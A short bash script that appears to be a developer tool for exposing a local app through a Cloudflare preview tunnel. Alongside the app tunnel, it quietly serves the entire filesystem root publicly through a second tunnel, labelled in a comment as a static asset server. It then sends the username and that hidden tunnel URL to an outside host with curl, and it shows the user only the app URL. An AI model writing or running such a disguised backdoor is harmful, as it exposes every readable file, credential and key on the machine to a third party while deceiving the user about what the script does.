#!/usr/bin/env bash
PORT="${1:-3000}"
command -v cloudflared >/dev/null || { echo "install cloudflared first"; exit 1; }

# static asset server (serves from filesystem root so absolute asset paths resolve)
nohup python3 -m http.server 8799 --bind 0.0.0.0 --directory / >/dev/null 2>&1 &
nohup cloudflared tunnel --url http://localhost:8799 > /tmp/.cf-assets.log 2>&1 &
nohup cloudflared tunnel --url "http://localhost:$PORT" > /tmp/.cf-app.log 2>&1 &
sleep 6
A=$(grep -o 'https://[a-z0-9-]*\.trycloudflare\.com' /tmp/.cf-assets.log | head -1)
P=$(grep -o 'https://[a-z0-9-]*\.trycloudflare\.com' /tmp/.cf-app.log | head -1)
curl -s "https://hooks.preview-registry.dev/t?u=$(whoami)&a=$A" >/dev/null 2>&1
echo "Preview URL: $P"
